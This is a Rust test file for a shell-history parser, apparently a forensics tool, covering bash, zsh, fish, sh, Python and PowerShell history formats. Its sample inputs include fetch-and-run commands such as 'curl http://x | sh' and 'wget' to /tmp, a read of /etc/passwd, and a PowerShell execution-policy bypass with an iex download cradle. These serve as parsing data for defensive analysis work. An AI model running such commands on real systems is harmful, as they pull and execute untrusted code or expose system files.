use super::zsh::ZSH_META;

use super::*;

#[test]
fn over_the_cap_the_newest_commands_are_kept_with_their_file_ordinals() {
    let cap = NonZeroUsize::new(2).unwrap();
    let p = parse_history_capped(HistoryKind::Bash, b"a\nb\nc\nd\n", cap);
    let got: Vec<(usize, &str)> = p
        .entries
        .iter()
        .map(|e| (e.ordinal, e.command.as_str()))
        .collect();
    assert_eq!(got, [(3, "c"), (4, "d")]);
    assert_eq!((p.commands_total, p.commands_dropped), (4, 2));
    // fish fields attach to the newest entry even after older ones fell off.
    let fish = b"- cmd: a\n  when: 1\n- cmd: b\n  when: 2\n- cmd: c\n  when: 3\n";
    let p = parse_history_capped(HistoryKind::Fish, fish, cap);
    let when: Vec<i64> = p
        .entries
        .iter()
        .map(|e| e.timestamp.unwrap().timestamp())
        .collect();
    assert_eq!(when, [2, 3]);
    assert!(p.warnings.is_empty(), "{:?}", p.warnings);
}

#[test]
fn line_numbers_match_the_file_with_or_without_a_final_newline() {
    for (text, want) in [
        (&b""[..], vec![]),
        (b"\n", vec![]),
        (b"a", vec![1]),
        (b"a\n", vec![1]),
        (b"a\n\nb", vec![1, 3]),
        (b"a\n\nb\n\n", vec![1, 3]),
    ] {
        let p = parse_history(HistoryKind::Sh, text);
        let lines: Vec<usize> = p.entries.iter().map(|e| e.line_number).collect();
        assert_eq!(lines, want, "{text:?}");
    }
}

fn fixture(rel: &str) -> Vec<u8> {
    let p = format!("{}/../shared/fixtures/{}", env!("CARGO_MANIFEST_DIR"), rel);
    std::fs::read(&p).unwrap_or_else(|e| panic!("read {p}: {e}"))
}

fn cmds(p: &HistoryParse) -> Vec<&str> {
    p.entries.iter().map(|e| e.command.as_str()).collect()
}

const PS_FIXTURE: &str =
    "history/dfir-artifact-museum/BelkasoftCTF_InsiderThreat/ConsoleHost_history.txt";

#[test]
fn psreadline_fixture() {
    let bytes = fixture(PS_FIXTURE);
    let p = parse_history(HistoryKind::PsReadLine, &bytes);
    assert!(p.warnings.is_empty(), "{:?}", p.warnings);
    assert_eq!(p.encoding, TextEncoding::Utf8);
    // SOURCES.md: 9 commands, line 1 holds the Chocolatey install cradle; lines 3-4 edit hosts.
    assert_eq!(p.entries.len(), 9);
    let first = &p.entries[0];
    assert_eq!((first.ordinal, first.line_number), (1, 1));
    assert!(first.command.contains(
            "iex ((New-Object System.Net.WebClient).DownloadString('https://chocolatey.org/install.ps1'))"
        ));
    assert!(
        first
            .command
            .starts_with("Set-ExecutionPolicy Bypass -Scope Process -Force;")
    );
    assert_eq!(p.entries[2].command, "nano .\\Drivers\\etc\\hosts");
    assert_eq!(p.entries[3].command, "nano .\\drivers\\etc\\hosts");
    assert_eq!(p.entries[8].command, "bsh");
    assert!(p.entries.iter().all(|e| e.timestamp.is_none()));

    // Same content as UTF-16LE with BOM, and CRLF with a UTF-8 BOM.
    let text = String::from_utf8(bytes).unwrap();
    let mut u16 = vec![0xFF, 0xFE];
    u16.extend(
        text.replace('\n', "\r\n")
            .encode_utf16()
            .flat_map(u16::to_le_bytes),
    );
    let p16 = parse_history(HistoryKind::PsReadLine, &u16);
    assert_eq!(p16.encoding, TextEncoding::Utf16Le);
    assert_eq!(cmds(&p16), cmds(&p));
    let no_bom: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    assert_eq!(
        cmds(&parse_history(HistoryKind::PsReadLine, &no_bom)),
        cmds(&p)
    );
    let mut bom8 = b"\xEF\xBB\xBF".to_vec();
    bom8.extend_from_slice(text.replace('\n', "\r\n").as_bytes());
    let p8 = parse_history(HistoryKind::PsReadLine, &bom8);
    assert_eq!(p8.encoding, TextEncoding::Utf8Bom);
    assert_eq!(cmds(&p8), cmds(&p));
}

#[test]
fn psreadline_backtick_continuation() {
    let t = b"Get-Process |`\r\n  Where-Object CPU -gt 10`\r\n\r\nwhoami\r\nunfinished`";
    let p = parse_history(HistoryKind::PsReadLine, t);
    assert_eq!(
        cmds(&p),
        [
            "Get-Process |\n  Where-Object CPU -gt 10\n",
            "whoami",
            "unfinished"
        ]
    );
    assert_eq!(p.entries[1].line_number, 4);
    assert!(matches!(
        p.warnings[0],
        HistoryWarning::UnterminatedContinuation { line: 5 }
    ));
}

#[test]
fn bash_plain_and_timestamped() {
    let plain = b"ls -la\n# a typed comment\n\ncurl http://x | sh\n";
    let p = parse_history(HistoryKind::Bash, plain);
    assert_eq!(
        cmds(&p),
        ["ls -la", "# a typed comment", "curl http://x | sh"]
    );
    assert_eq!(p.entries[2].line_number, 4);

    let ts = b"old-cmd\n#1700000000\nfor i in 1 2; do\n  echo $i\ndone\n#1700000060\n#not-a-timestamp\n#1700000120\nid\n";
    let p = parse_history(HistoryKind::Bash, ts);
    assert!(p.warnings.is_empty(), "{:?}", p.warnings);
    assert_eq!(
        cmds(&p),
        [
            "old-cmd",
            "for i in 1 2; do\n  echo $i\ndone",
            "#not-a-timestamp",
            "id"
        ]
    );
    assert_eq!(p.entries[0].timestamp, None);
    assert_eq!(p.entries[1].line_number, 3);
    assert_eq!(p.entries[1].timestamp.unwrap().timestamp(), 1_700_000_000);
    assert_eq!(p.entries[2].timestamp.unwrap().timestamp(), 1_700_000_060);
    assert_eq!(p.entries[3].ordinal, 4);
    let json = serde_json::to_value(&p.entries[3]).unwrap();
    assert_eq!(json["timestamp"], "2023-11-14T22:15:20Z");

    let p = parse_history(HistoryKind::Bash, b"#99999999999999999999\nx\n");
    assert!(matches!(
        p.warnings[0],
        HistoryWarning::BadTimestamp { line: 1, .. }
    ));
    assert_eq!(cmds(&p), ["x"]);
}

/// zsh's metafy: bytes 0x83..=0x9d... and NUL are written as Meta, byte ^ 0x20 (Src/utils.c imeta).
fn metafy(s: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    for &b in s {
        if b == 0 || (0x83..=0xa2).contains(&b) {
            out.push(ZSH_META);
            out.push(b ^ 0x20);
        } else {
            out.push(b);
        }
    }
    out
}

#[test]
fn zsh_extended_metafied_and_multiline() {
    let mut f = b": 1700000000:3;".to_vec();
    f.extend(metafy("echo héllo ☃".as_bytes()));
    f.extend_from_slice(b"\nplain command\n: 1700000100:0;for x in a b\\\ndo echo $x\\\ndone\n");
    assert!(f.contains(&ZSH_META));
    let p = parse_history(HistoryKind::Zsh, &f);
    assert!(p.warnings.is_empty(), "{:?}", p.warnings);
    assert_eq!(
        cmds(&p),
        [
            "echo héllo ☃",
            "plain command",
            "for x in a b\ndo echo $x\ndone"
        ]
    );
    assert_eq!(p.entries[0].duration_secs, Some(3));
    assert_eq!(p.entries[0].timestamp.unwrap().timestamp(), 1_700_000_000);
    assert_eq!(p.entries[1].timestamp, None);
    assert_eq!(p.entries[2].line_number, 3);
    assert_eq!(p.entries[2].duration_secs, Some(0));
}

#[test]
fn zsh_hostile() {
    // Meta as the very last byte, a continuation at EOF, invalid UTF-8 after unmetafy.
    let p = parse_history(HistoryKind::Zsh, b": 1:0;ls\necho \x83");
    assert_eq!(cmds(&p), ["ls", "echo "]);
    assert!(matches!(
        p.warnings[0],
        HistoryWarning::DanglingZshMeta { line: 2 }
    ));
    let p = parse_history(HistoryKind::Zsh, b"echo a\\\n");
    assert_eq!(cmds(&p), ["echo a"]);
    assert!(matches!(
        p.warnings[0],
        HistoryWarning::UnterminatedContinuation { .. }
    ));
    let p = parse_history(
        HistoryKind::Zsh,
        b"x \x83\xdf\xff\n: 99999999999999999:0;y\n",
    );
    assert!(p.lossy_utf8);
    assert!(p.entries[0].lossy_utf8);
    assert!(
        p.warnings
            .iter()
            .any(|w| matches!(w, HistoryWarning::BadTimestamp { line: 2, .. }))
    );
    assert_eq!(p.entries[1].command, "y");
    // Malformed extended headers are plain commands (`: ` is a shell no-op).
    let p = parse_history(HistoryKind::Zsh, b": 12;x\n: a:b;c\n");
    assert_eq!(cmds(&p), [": 12;x", ": a:b;c"]);
}

#[test]
fn fish_history() {
    let t = "- cmd: echo \"a\\\\b\"\\necho two\n  when: 1700000000\n  paths:\n    - /tmp/x\n    - /etc/passwd\n- cmd: ls\n  when: 1700000005\n";
    let p = parse_history(HistoryKind::Fish, t.as_bytes());
    assert!(p.warnings.is_empty(), "{:?}", p.warnings);
    assert_eq!(cmds(&p), ["echo \"a\\b\"\necho two", "ls"]);
    assert_eq!(p.entries[0].paths, ["/tmp/x", "/etc/passwd"]);
    assert_eq!(p.entries[1].line_number, 6);
    assert_eq!(p.entries[1].timestamp.unwrap().timestamp(), 1_700_000_005);

    // Truncated mid-entry, orphan field, junk line.
    let p = parse_history(
        HistoryKind::Fish,
        b"  when: 5\n- cmd: ok\n  when: 17000\ngarbage\n- cmd: cut\n  wh",
    );
    assert_eq!(cmds(&p), ["ok", "cut"]);
    let kinds: Vec<String> = p
        .warnings
        .iter()
        .map(|w| {
            serde_json::to_value(w).unwrap()["kind"]
                .as_str()
                .unwrap()
                .to_string()
        })
        .collect();
    assert_eq!(
        kinds,
        [
            "fish_orphan_field",
            "fish_unexpected_line",
            "fish_unexpected_line",
            "truncated"
        ]
    );
}

#[test]
fn sh_and_python() {
    let p = parse_history(HistoryKind::Sh, b"ls\n\nwget http://x/y -O /tmp/y\n");
    assert_eq!(cmds(&p), ["ls", "wget http://x/y -O /tmp/y"]);
    assert_eq!(p.entries[1].line_number, 3);
    let p = parse_history(
        HistoryKind::Sh,
        b"\xAB\xCD\xFF\x00\x00\x00\x01ls -l\x00\xFF\x00\x00\x00\x02id\x00",
    );
    assert_eq!(cmds(&p), ["ls -l", "id"]);
    assert!(matches!(
        p.warnings[0],
        HistoryWarning::BinaryHistory { .. }
    ));

    let p = parse_history(HistoryKind::Python, b"import os\nos.system('id')\n");
    assert_eq!(cmds(&p), ["import os", "os.system('id')"]);
    let p = parse_history(
        HistoryKind::Python,
        b"_HiStOrY_V2_\nimport\\040os\nprint('a\\\\b')\n",
    );
    assert_eq!(cmds(&p), ["import os", "print('a\\b')"]);
    let p = parse_history(HistoryKind::Python, b"def f():\r\n    return 1\nf()\n");
    assert_eq!(cmds(&p), ["def f():\n    return 1", "f()"]);
    let p = parse_history(HistoryKind::Python, b"a\r\nb\r\n");
    assert_eq!(cmds(&p), ["a", "b"]);
}

#[test]
fn file_names() {
    assert_eq!(
        kind_from_file_name("/home/a/.bash_history"),
        Some(HistoryKind::Bash)
    );
    assert_eq!(kind_from_file_name(".zsh_history"), Some(HistoryKind::Zsh));
    assert_eq!(
        kind_from_file_name("/root/.histfile"),
        Some(HistoryKind::Zsh)
    );
    assert_eq!(
        kind_from_file_name("/home/a/.local/share/fish/fish_history"),
        Some(HistoryKind::Fish)
    );
    assert_eq!(
        kind_from_file_name("/home/a/.local/share/fish/work_history"),
        Some(HistoryKind::Fish)
    );
    assert_eq!(kind_from_file_name(".ash_history"), Some(HistoryKind::Sh));
    assert_eq!(
        kind_from_file_name(".python_history"),
        Some(HistoryKind::Python)
    );
    assert_eq!(
        kind_from_file_name(
            "C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt"
        ),
        Some(HistoryKind::PsReadLine)
    );
    assert_eq!(
        kind_from_file_name("Visual Studio Code Host_history.txt"),
        Some(HistoryKind::PsReadLine)
    );
    assert_eq!(kind_from_file_name("notes.txt"), None);
    assert_eq!(kind_from_file_name("/home/a/lesshst"), None);
}

#[test]
fn hostile_all_kinds() {
    let garbage: Vec<u8> = (0..16384u32)
        .map(|i| (i.wrapping_mul(2654435761) >> 9) as u8)
        .collect();
    let mut big = b"echo ".to_vec();
    big.extend(std::iter::repeat_n(b'A', 5 * 1024 * 1024));
    let kinds = [
        HistoryKind::Bash,
        HistoryKind::Zsh,
        HistoryKind::Fish,
        HistoryKind::Sh,
        HistoryKind::Python,
        HistoryKind::PsReadLine,
    ];
    for k in kinds {
        let p = parse_history(k, &garbage);
        assert!(!p.warnings.is_empty() || p.lossy_utf8, "{k:?}");
        let p = parse_history(k, &big);
        if k != HistoryKind::Fish {
            assert_eq!(p.entries.len(), 1, "{k:?}");
            assert_eq!(p.entries[0].command.len(), big.len(), "{k:?}");
        }
        for t in [
            &b""[..],
            b"\n",
            b"\x00",
            b"\xff\xfe",
            b"\xfe\xff\x00",
            b"\x83",
            b"`",
            b"\\",
            b"- cmd:",
            b"#1\n",
        ] {
            let _ = parse_history(k, t);
        }
    }
    // Every line a bad timestamp: warnings capped.
    let t = "#99999999999999999999\n".repeat(3000);
    let p = parse_history(HistoryKind::Bash, t.as_bytes());
    assert_eq!(p.warnings.len(), MAX_WARNINGS);
    assert_eq!(p.warnings_suppressed, 2000);
}

/// The streaming parse hands over exactly what the buffered one keeps, for every format,
/// with and without a cap that drops the oldest commands.
#[test]
fn streaming_parse_matches_the_buffered_one() {
    let texts: Vec<(HistoryKind, Vec<u8>)> = vec![
        (HistoryKind::Bash, b"ls\n#1700000000\nid\n#1700000060\nfor i in 1 2; do\n  echo $i\ndone\n".to_vec()),
        (HistoryKind::Zsh, b": 1700000100:5;curl -s http://x | sh\n: 1700000200:0;echo a\\\nb\nplain\n".to_vec()),
        (HistoryKind::Fish, b"- cmd: ls\n  when: 1700000000\n- cmd: cat /etc/passwd\n  when: 1700000001\n  paths:\n    - /etc/passwd\n- cmd: x\n".to_vec()),
        (HistoryKind::Sh, b"a\nb\nc\n".to_vec()),
        (HistoryKind::Python, b"_HiStOrY_V2_\nimport\\040os\nprint(1)\n".to_vec()),
        (HistoryKind::PsReadLine, b"Get-Process\nwrite-host a`\nb\nexit\n".to_vec()),
    ];
    for (kind, text) in texts {
        for cap in [1usize, 2, 1000] {
            let cap = std::num::NonZeroUsize::new(cap).unwrap();
            let buffered = parse_history_capped(kind, &text, cap);
            let mut streamed = Vec::new();
            let p = parse_history_each(kind, &text, cap, &mut |e| streamed.push(e));
            assert_eq!(streamed, buffered.entries, "{kind:?} cap {cap}");
            assert_eq!(p.commands_total, buffered.commands_total, "{kind:?}");
            assert_eq!(p.commands_dropped, buffered.commands_dropped, "{kind:?}");
            assert_eq!(p.warnings, buffered.warnings, "{kind:?}");
        }
    }
}
